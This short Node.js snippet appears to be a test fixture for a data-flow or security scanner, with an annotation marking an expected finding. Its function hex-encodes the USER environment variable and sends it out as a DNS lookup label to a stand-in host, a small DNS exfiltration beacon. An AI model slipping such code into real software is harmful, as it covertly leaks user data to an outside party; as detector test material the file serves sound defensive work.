// A name that is looked up carries data in its labels.
import dns from "node:dns";

export function beacon(done) {
  const label = Buffer.from(process.env.USER).toString("hex");
  dns.lookup(`${label}.t.example.com`, done); // $ finding[payload explicit username -> dns.host|query|url] from USER
}
